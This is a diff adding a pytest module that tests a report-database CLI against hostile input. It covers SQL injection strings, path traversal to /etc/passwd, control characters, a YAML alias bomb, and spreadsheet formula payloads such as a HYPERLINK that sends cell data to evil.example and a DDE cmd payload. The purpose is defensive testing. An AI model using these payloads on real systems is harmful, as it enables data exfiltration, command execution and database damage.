@@ -1,0 +1,381 @@
+"""Hostile input: SQL, path separators and control characters in ids, report numbers
+and --at references are refused (exit 2) or taken as plain text, and the database is
+intact afterwards; exports write only where the user said, and nothing half-written;
+text that a spreadsheet would run as a formula is neutralised in CSV and stored as a
+string in XLSX.
+
+The database holds the module's small valid report (tests/test_robustness.py) plus a
+report whose facts start with "=HYPERLINK(", "@SUM(", "+", "-": their quotes are in the
+version text, so they load like any other fact.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import signal
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from kb import export as export_module
+from kb.schemas import KINDS
+from tests.conftest import snapshot
+from tests.test_robustness import new_database, run_kb, write_report
+
+FORMULA = '=HYPERLINK("http://evil.example/x?"&A1,"Click for details")'
+HOSTILE_TEXT = f"""\
+Formula report
+Updated March 3, 2025
+
+{FORMULA} was pasted into the report.
+@SUM(1+1) is what the annex says.
+-2+3 is not arithmetic here. +1 is a vote.
+"""
+HOSTILE_YAML = f"""\
+report: HX1
+version: 2025-03-03
+title: "=cmd|' /C calc'!A0"
+facts:
+  - id: formula-event
+    kind: event
+    quote: {json.dumps(FORMULA + " was pasted into the report.")}
+    date: 2025-03
+    summary: {json.dumps(FORMULA)}
+    actors: ["@attacker", "+1"]
+    category: "-injection"
+    note: "@SUM(1+1) is what the annex says."
+  - id: formula-indicator
+    kind: indicator
+    quote: "-2+3 is not arithmetic here."
+    name: "-2+3"
+    value: -5
+    unit: "+1 is a vote."
+"""
+
+
+def write_hostile_report(root: Path) -> Path:
+    folder = root / "HX1"
+    folder.mkdir(parents=True)
+    (folder / "report.yaml").write_text(
+        "number: HX1\ntype: Insight\nauthors:\n  - name: '=Mallory'\n", encoding="utf-8"
+    )
+    (folder / "2025-03-03.txt").write_text(HOSTILE_TEXT, encoding="utf-8")
+    (folder / "2025-03-03.yaml").write_text(HOSTILE_YAML, encoding="utf-8")
+    return folder
+
+
+@pytest.fixture(scope="module")
+def db(backend: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """One database per backend for the module: TS100 and HX1 loaded."""
+    root = tmp_path_factory.mktemp("hostile")
+    for url in new_database(backend, root):
+        for folder in (write_report(root / "seeds"), write_hostile_report(root / "seeds")):
+            code, _, err = run_kb("load", str(folder), db=url)
+            assert code == 0, err
+        yield url
+
+
+def _no_raw_controls(text: str) -> bool:
+    return all(c.isprintable() or c == "\n" for c in text)
+
+
+# --- ids, report numbers, references -------------------------------------------------
+
+HOSTILE = [
+    "'; DROP TABLE facts; --",
+    '" OR 1=1 --',
+    "merida' OR '1'='1",
+    "../x",
+    "../../../etc/passwd",
+    "/tmp/x",
+    "a\x00b",
+    "a\x01b\x1b[31mred",
+    "\u202emerida",
+    "merida\n",
+    "%",
+    "_",
+    "*",
+    "",
+    "x" * 5000,
+]
+
+COMMANDS: list[tuple[str, ...]] = [
+    ("show", "{}"),
+    ("history", "{}"),
+    ("history", "merida", "--report", "{}"),
+    ("versions", "{}"),
+    ("facts", "{}"),
+    ("facts", "--search", "{}", "--format", "json"),
+    ("facts", "--at", "{}"),
+    ("facts", "--at", "TS100@{}"),
+    ("show", "merida", "--at", "{}"),
+    ("diff", "{}", "TS100"),
+    ("funding", "--fy", "2023", "--account", "{}"),
+    ("funding", "--fy", "2023", "--recipient", "{}"),
+    ("funding", "--fy", "2023", "--status", "{}"),
+    ("funding", "--fy", "2023", "--report", "{}"),
+    ("events", "--since", "{}"),
+]
+
+
+@pytest.mark.parametrize("value", HOSTILE, ids=[repr(v)[:24] for v in HOSTILE])
+def test_hostile_arguments_are_refused_or_plain_text(db: str, value: str) -> None:
+    before = snapshot(db)
+    for command in COMMANDS:
+        argv = [value if part == "{}" else part.replace("{}", value) for part in command]
+        code, out, err = run_kb(*argv, db=db)
+        where = f"kb {' '.join(map(repr, argv))} -> exit {code}: {err}"
+        assert code in (0, 2), where
+        assert "Traceback" not in err and "error:" not in err, where
+        assert _no_raw_controls(err), where  # user input is quoted, never echoed raw
+        if code == 2:
+            assert out == "" and err.startswith("kb: "), where
+    assert snapshot(db) == before
+
+
+@pytest.mark.parametrize("needle", ["%", "_", "'", "--"])
+def test_search_text_is_literal(db: str, needle: str) -> None:
+    """--search matches the text itself: % and _ are not LIKE wildcards."""
+    code, out, err = run_kb("facts", "--search", needle, "--format", "json", db=db)
+    assert code == 0, err
+    for row in json.loads(out):
+        assert needle.lower() in json.dumps(row, ensure_ascii=False).lower(), row
+
+
+@pytest.mark.parametrize(
+    "number",
+    ["'; DROP TABLE facts; --", "../x", "IF1\x00", "IF1/../IF2", "if10578", "IF1\n"],
+)
+def test_hostile_report_numbers_are_refused(db: str, tmp_path: Path, number: str) -> None:
+    folder = write_report(tmp_path)
+    report = folder / "report.yaml"
+    report.write_text(
+        report.read_text(encoding="utf-8").replace("number: TS100", f"number: {json.dumps(number)}"),
+        encoding="utf-8",
+    )
+    before = snapshot(db)
+    code, out, err = run_kb("load", str(folder), db=db)
+    assert code == 2, err
+    assert out == "" and str(report) in err and "field number" in err, err
+    assert _no_raw_controls(err), err
+    assert snapshot(db) == before
+
+
+def test_billion_laughs_is_refused_quickly(db: str, tmp_path: Path) -> None:
+    """Nine aliases of aliases expand to 9**9 items: refused, not expanded (or printed)."""
+    folder = write_report(tmp_path)
+    version = folder / "2024-10-01.yaml"
+    lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
+    lines += [f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, 9)]
+    text = version.read_text(encoding="utf-8").replace("    name: Mérida Initiative\n", "    name: Mérida Initiative\n    note: *l8\n")
+    version.write_text("\n".join(lines) + "\n" + text, encoding="utf-8")
+
+    def too_slow(*_: Any) -> None:
+        raise TimeoutError("the load expanded the aliases")
+
+    previous = signal.signal(signal.SIGALRM, too_slow)
+    signal.alarm(20)
+    try:
+        before = snapshot(db)
+        code, _, err = run_kb("load", str(folder), "--replace", db=db)
+    finally:
+        signal.alarm(0)
+        signal.signal(signal.SIGALRM, previous)
+    assert code == 2 and "[yaml-alias]" in err and str(version) in err, err
+    assert snapshot(db) == before
+
+
+# --- where exports write ----------------------------------------------------------
+
+
+def _tree(root: Path) -> dict[str, bytes]:
+    return {
+        str(p.relative_to(root)): p.read_bytes() if p.is_file() and not p.is_symlink() else b""
+        for p in sorted(root.rglob("*"))
+    }
+
+
+def test_export_all_writes_only_inside_the_folder(db: str, tmp_path: Path) -> None:
+    outside = tmp_path / "outside.csv"
+    outside.write_text("precious\n", encoding="utf-8")
+    target = tmp_path / "out"
+    target.mkdir()
+    # A planted link where an export file goes: replaced by a file, its target untouched.
+    (target / "program.csv").symlink_to(outside)
+    code, _, err = run_kb("export", "all", "-o", str(target), db=db)
+    assert code == 0, err
+    assert sorted(p.name for p in target.iterdir()) == sorted(
+        [f"{kind}.csv" for kind in KINDS] + ["sources.csv"]
+    )
+    assert not (target / "program.csv").is_symlink()
+    assert outside.read_text(encoding="utf-8") == "precious\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "outside.csv"]
+
+    # A folder that does not exist yet is made, and holds everything.
+    code, _, err = run_kb("export", "all", "-o", str(tmp_path / "new" / "deeper"), db=db)
+    assert code == 0, err
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["new", "out", "outside.csv"]
+
+
+@pytest.mark.parametrize(
+    ("kind", "fmt"),
+    [("event", "csv"), ("all", "json"), ("all", "xlsx"), ("appropriation", "xlsx")],
+)
+def test_single_file_export_to_a_folder_is_refused(
+    db: str, tmp_path: Path, kind: str, fmt: str
+) -> None:
+    folder = tmp_path / "existing"
+    folder.mkdir()
+    (folder / "keep.txt").write_text("keep", encoding="utf-8")
+    before = _tree(tmp_path)
+    code, out, err = run_kb("export", kind, "-f", fmt, "-o", str(folder), db=db)
+    assert code == 2, err
+    assert out == "" and str(folder) in err, err
+    assert _tree(tmp_path) == before
+
+
+def test_exports_refuse_bad_targets(db: str, tmp_path: Path) -> None:
+    file = tmp_path / "a-file"
+    file.write_text("x", encoding="utf-8")
+    before = _tree(tmp_path)
+    cases = [
+        ("export", "all", "-o", str(file)),  # a folder export onto a file
+        ("export", "event", "-o", str(tmp_path / "missing" / "e.csv")),  # no such folder
+        ("facts", "-o", str(tmp_path)),  # a read command's -o names a file
+        ("export", "all", "-f", "json", "-o", str(file / "x.json")),  # a file as a folder
+    ]
+    for argv in cases:
+        code, out, err = run_kb(*argv, db=db)
+        assert code == 2, (argv, err)
+        assert out == "" and "Traceback" not in err, (argv, err)
+    assert _tree(tmp_path) == before
+
+
+@pytest.mark.parametrize(("kind", "fmt"), [("event", "csv"), ("all", "json"), ("all", "xlsx")])
+def test_failed_export_leaves_no_partial_file(
+    db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str, fmt: str
+) -> None:
+    """A failure after the first rows: the target keeps its old content (or stays absent),
+    and no temporary file is left beside it."""
+    real_rows = export_module.rows_of
+
+    def failing_rows(*args: Any, **kwargs: Any) -> Iterator[dict[str, Any]]:
+        rows = real_rows(*args, **kwargs)
+        yield next(rows)
+        raise RuntimeError("disk on fire")
+
+    monkeypatch.setattr(export_module, "rows_of", failing_rows)
+    fresh = tmp_path / f"fresh.{fmt}"
+    old = tmp_path / f"old.{fmt}"
+    old.write_bytes(b"the previous export\n")
+    for target in (fresh, old):
+        code, out, err = run_kb("export", kind, "-f", fmt, "-o", str(target), db=db)
+        assert code == 1 and "disk on fire" in err, err
+    assert not fresh.exists()
+    assert old.read_bytes() == b"the previous export\n"
+    assert sorted(p.name for p in tmp_path.iterdir()) == [old.name]
+
+
+def test_failed_folder_export_leaves_no_partial_file(
+    db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """`export all` to CSV fails on its third kind: the files it wrote are whole, the one it
+    was writing is absent, and no temporary file is left."""
+    real_rows = export_module.rows_of
+    calls = []
+
+    def failing_rows(conn: Any, kind: str, versions: Any) -> Iterator[dict[str, Any]]:
+        calls.append(kind)
+        rows = real_rows(conn, kind, versions)
+        if len(calls) == 3:
+            yield next(rows)
+            raise RuntimeError("disk on fire")
+        yield from rows
+
+    monkeypatch.setattr(export_module, "rows_of", failing_rows)
+    target = tmp_path / "out"
+    code, _, err = run_kb("export", "all", "-o", str(target), db=db)
+    assert code == 1 and "disk on fire" in err, err
+    written = sorted(p.name for p in target.iterdir())
+    assert written == sorted(f"{kind}.csv" for kind in calls[:2]), written
+    for name in written:
+        rows = list(csv.reader(io.StringIO((target / name).read_text(encoding="utf-8"))))
+        assert rows and rows[0][:4] == ["report", "version", "kind", "id"]
+
+
+# --- formulas -----------------------------------------------------------------------
+
+
+def _cells(rows: list[dict[str, str]], fact_id: str) -> dict[str, str]:
+    return next(r for r in rows if r["id"] == fact_id)
+
+
+def test_csv_neutralises_formulas(db: str, tmp_path: Path) -> None:
+    target = tmp_path / "event.csv"
+    code, _, err = run_kb("export", "event", "-f", "csv", "-o", str(target), db=db)
+    assert code == 0, err
+    exported = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
+    code, out, err = run_kb("facts", "event", "--format", "csv", db=db)
+    assert code == 0, err
+    listed = list(csv.DictReader(io.StringIO(out)))
+    for rows in (exported, listed):
+        event = _cells(rows, "formula-event")
+        assert event["summary"] == "'" + FORMULA
+        assert event["quote"].startswith("'=HYPERLINK(")
+        assert event["note"] == "'@SUM(1+1) is what the annex says."
+        assert event["category"] == "'-injection"
+        assert event["actors"].startswith("'@attacker")
+        for row in rows:  # no cell of any row can start a formula
+            for value in row.values():
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
+
+    code, out, err = run_kb("facts", "indicator", "--at", "HX1", "--format", "csv", db=db)
+    assert code == 0, err
+    indicator = _cells(list(csv.DictReader(io.StringIO(out))), "formula-indicator")
+    assert indicator["value"] == "-5"  # a number stays a number
+    assert indicator["name"] == "'-2+3" and indicator["unit"] == "'+1 is a vote."
+
+
+def test_xlsx_stores_formulas_as_strings(db: str, tmp_path: Path) -> None:
+    from openpyxl import load_workbook
+
+    target = tmp_path / "all.xlsx"
+    code, _, err = run_kb("export", "all", "-f", "xlsx", "-o", str(target), db=db)
+    assert code == 0, err
+    workbook = load_workbook(target)
+    found = []
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
+                if isinstance(cell.value, str) and cell.value.lstrip("'").startswith("=HYPERLINK("):
+                    assert cell.data_type == "s"
+                    found.append(cell.value)
+    assert FORMULA in found or "'" + FORMULA in found, found
+
+
+def test_json_keeps_the_text_as_it_is(db: str) -> None:
+    """Neutralising is for spreadsheets only: JSON carries the exact text."""
+    code, out, err = run_kb("show", "formula-event", "--format", "json", db=db)
+    assert code == 0, err
+    (fact,) = json.loads(out)
+    assert fact["summary"] == FORMULA and fact["note"].startswith("@SUM(")
+
+
+def test_the_database_is_intact_after_all_this(db: str) -> None:
+    code, out, err = run_kb("verify", "--no-seeds", db=db)
+    assert code == 0, out + err
+    code, out, err = run_kb("reports", "--format", "json", db=db)
+    assert code == 0, err
+    assert sorted(r["report"] for r in json.loads(out)) == ["HX1", "TS100"]
+
+
+def test_no_stray_files_in_the_working_directory() -> None:
+    """Nothing above wrote into the current directory (exports went where they were told)."""
+    stray = [p for p in os.listdir(".") if p.endswith((".csv", ".xlsx", ".tmp"))]
+    assert not stray, stray
